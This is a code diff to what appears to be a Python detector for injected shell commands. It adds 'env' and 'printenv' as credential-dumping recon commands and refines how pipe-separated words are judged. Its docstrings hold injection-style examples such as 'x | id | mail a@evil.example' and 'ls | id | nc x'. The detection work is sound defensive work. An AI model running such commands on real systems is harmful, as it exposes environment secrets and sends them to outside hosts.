@@ -1022,10 +1022,15 @@ def _script_before(items: list[Word | Op], i: int) -> bool:
     return False
 
 
+#: Recon commands whose output is the environment (in a Lambda, its AWS credentials): never an operand.
+_SECRETS_DUMPS: Final = frozenset({"env", "printenv"})
+
+
 def _between_words(items: list[Word | Op], i: int, j: int) -> bool:
     """Whether the command from ``items[i]`` to the operator ``items[j]`` stands between two ``|``
-    set apart by blanks, with a plain word on each side that names no command (``int | set | none``,
-    a union type; not ``1|id|x``).
+    set apart by blanks, with a plain word on each side that names no command, the second one
+    taking no argument (``int | set | none``, a union type; not ``1|id|x``, nor ``x | id | mail
+    a@evil.example``).
 
     Example:
         >>> t = lex("int | set | none"); _between_words(t, 2, 3), _between_words(lex("ls | id | nc x"), 2, 3)
@@ -1034,9 +1039,10 @@ def _between_words(items: list[Word | Op], i: int, j: int) -> bool:
     if i < 2 or j + 1 >= len(items):
         return False
     sep, before, pipe, after = items[i - 1], items[i - 2], items[j], items[j + 1]
+    follows = items[j + 2] if j + 2 < len(items) else None  # the plain word stands alone: no arguments
     return (isinstance(sep, Op) and sep.text == "|" and isinstance(pipe, Op) and pipe.text == "|"
             and isinstance(before, Word) and isinstance(after, Word) and not before.flags and not after.flags
-            and sep.end < items[i].start and pipe.start > items[j - 1].end
+            and sep.end < items[i].start and pipe.start > items[j - 1].end and not isinstance(follows, Word)
             and _command_name(before) is None and _command_name(after) is None)
 
 
@@ -1183,9 +1189,11 @@ def _command(
         ok = level >= 3 or flags > 0 or redirs > 0
     else:  # the whole value: a command with command-like arguments, not prose
         ok = (level >= 2 or cls == "T" and nargs >= 1) and not prose
-    if cell and bare and not obf and not by_path:
-        ok = False  # | id | name |: a table's column named like a command, which a pipe would not leave bare
-    elif cls in ("R", "r") and bare and not obf and not by_path and sep == "|" and _between_words(items, i, k + 1):
+    if cell and cls in ("R", "r") and bare and not obf and not by_path and i > 0 and items[i - 1].end < word.start \
+            and isinstance(after, Op) and after.start > word.end:
+        ok = False  # | id | name |: a table's column named like a recon command (|reboot|x|, |id|| still run)
+    elif cls in ("R", "r") and bare and not obf and not by_path and sep == "|" and name not in _SECRETS_DUMPS \
+            and _between_words(items, i, k + 1):
         ok = False  # int | set | none: an operand; piped on to a plain word, its output shows nowhere
     if not ok:
         return j, name not in PREFIXES
